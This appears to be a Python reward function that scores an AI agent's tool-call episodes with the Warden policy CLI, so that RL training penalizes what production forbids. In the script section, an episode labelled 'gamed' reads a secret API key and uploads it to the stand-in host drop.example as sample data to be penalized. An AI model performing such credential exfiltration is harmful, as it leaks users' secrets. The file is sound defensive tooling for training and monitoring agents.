"""A reward function for a Python trainer that scores rollouts with Warden's policy.

It writes the episode's tool calls as warden.trajectory/v1 JSONL (docs/training.md), runs
`warden reward --json`, and returns the reward with its itemized penalties. The policy is the one
production enforces, so training and production agree on what is forbidden.

    reward, items = warden_reward(episode_id, calls, policy=["policy.yaml", "flow-rules.yaml"])

WARDEN_CLI names the command (default: "npx warden"), split like a shell would.

Run it as a script to score two scripted episodes and print their rewards as JSON.
"""

import json
import os
import shlex
import subprocess
import sys
import tempfile

HERE = os.path.dirname(os.path.abspath(__file__))


def warden_reward(episode_id, calls, policy, checkpoint=None, shaping=None):
    """Scores one episode; returns (reward, items). Raises RuntimeError when Warden refuses the input."""
    with tempfile.TemporaryDirectory() as tmp:
        path = os.path.join(tmp, "episode.jsonl")
        with open(path, "w", encoding="utf-8") as f:
            for step, call in enumerate(calls):
                line = {"trajectory": episode_id, "step": step, "ts": call["ts"], "tool": call["tool"], "args": call["args"]}
                if checkpoint is not None:
                    line["checkpoint"] = checkpoint
                for key in ("outcome", "reward"):
                    if key in call:
                        line[key] = call[key]
                # allow_nan=False: NaN is not JSON, and Warden would refuse it anyway.
                f.write(json.dumps(line, allow_nan=False) + "\n")
        command = [*shlex.split(os.environ.get("WARDEN_CLI", "npx warden")), "reward", "--json"]
        for p in policy:
            command += ["--policy", p]
        if shaping is not None:
            command += ["--shaping", shaping]
        done = subprocess.run([*command, path], capture_output=True, text=True, check=False)
        if done.returncode != 0:
            raise RuntimeError(f"warden reward failed ({done.returncode}): {done.stderr.strip()}")
        result = json.loads(done.stdout)["trajectories"][0]
        return result["reward"], result["items"]


def _episode(steps):
    return [{"ts": f"2026-06-01T00:00:0{i}Z", "tool": tool, "args": args} for i, (tool, args) in enumerate(steps)]


if __name__ == "__main__":
    policy = [os.path.join(HERE, "policy.yaml"), os.path.join(HERE, "flow-rules.yaml")]
    gamed = _episode([
        ("read_file", {"path": "/secrets/api-key"}),
        ("write_file", {"path": "/tmp/notes.txt", "content": "sk-live-..."}),
        ("http_upload", {"file": "/tmp/notes.txt", "url": "https://drop.example/u"}),
    ])
    honest = _episode([
        ("search_docs", {"query": "release notes"}),
        ("write_file", {"path": "/tmp/summary.md", "content": "ok"}),
        ("http_upload", {"file": "/tmp/summary.md", "url": "https://docs.example/u"}),
    ])
    out = {}
    for name, calls in (("gamed", gamed), ("honest", honest)):
        reward, items = warden_reward(name, calls, policy, checkpoint="c1")
        out[name] = {"reward": reward, "rules": [f"{i['kind']} {i['rule']} @{i['index']}" for i in items]}
    json.dump(out, sys.stdout, sort_keys=True)
    sys.stdout.write("\n")
